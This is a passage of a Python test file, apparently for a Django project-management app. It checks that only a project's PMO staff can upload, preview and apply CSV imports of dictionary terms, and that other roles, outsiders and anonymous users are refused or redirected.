    url = reverse("dictionary:import", kwargs={"code": project.code})
    expected = {"pmo": 200, "client_pm": 403, "security": 403, "vendor_a": 403, "reader": 403, "outsider": 404}
    assert {name: client_for(personas[name]).get(url).status_code for name in expected} == expected
    assert client_for(None).get(url).status_code == 302  # to the sign-in page


def test_the_client_pm_cannot_upload(project, client_pm):
    response = post_file(client_pm, project, csv_upload("Term,Standard definition\n査定,定義。\n"))
    assert response.status_code == 403
    assert_nothing_saved(project)


def test_an_import_is_invisible_to_everyone_but_the_projects_pmo_staff(project, hidden_project, personas):
    prepared = uploaded(personas["pmo"], project, csv_upload("Term,Standard definition\n査定,定義。\n"))
    other_pmo = member(hidden_project, Role.PMO)
    for name in ("client_pm", "security", "vendor_a", "reader", "outsider"):
        person = personas[name]
        assert client_for(person).get(import_url("import_preview", prepared)).status_code == 404, name
        assert client_for(person).post(import_url("import_apply", prepared)).status_code == 404, name
    assert client_for(other_pmo).get(import_url("import_preview", prepared)).status_code == 404
    wrong_project = reverse("dictionary:import_preview", kwargs={"code": hidden_project.code, "pk": prepared.pk})
    assert client_for(other_pmo).get(wrong_project).status_code == 404
    prepared.refresh_from_db()
    assert prepared.status == ImportStatus.PREVIEW
    assert not Term.objects.filter(project=project).exists()


def test_another_pmo_consultant_of_the_project_may_confirm(project, pmo, client_pm):
    second = MembershipFactory(project=project, role=Role.PMO, organization=project.pmo_firm).user
    prepared = uploaded(pmo, project, csv_upload("Term,Standard definition\n査定,定義。\n"))
    assert client_for(second).get(import_url("import_preview", prepared)).status_code == 200
    assert client_for(second).post(import_url("import_apply", prepared)).status_code == 302
    assert Term.objects.get(name="査定").proposals.get().proposed_by == second


def test_the_services_refuse_anyone_but_pmo_staff(project, pmo, client_pm):
    rows = read(csv_upload("Term,Standard definition\n査定,定義。\n"))
    with pytest.raises(PermissionDenied) as caught:
        services.dictionary_import_prepare(actor=client_pm, project=project, file_name="terms.csv", rows=rows)
    assert str(caught.value) == "Only PMO staff of this project can change its dictionary."
    prepared = services.dictionary_import_prepare(actor=pmo, project=project, file_name="terms.csv", rows=rows)
    with pytest.raises(PermissionDenied) as caught:
        services.dictionary_import_apply(actor=client_pm, dictionary_import=prepared)
    assert str(caught.value) == "Only PMO staff of this project can change its dictionary."
    assert not Term.objects.exists()
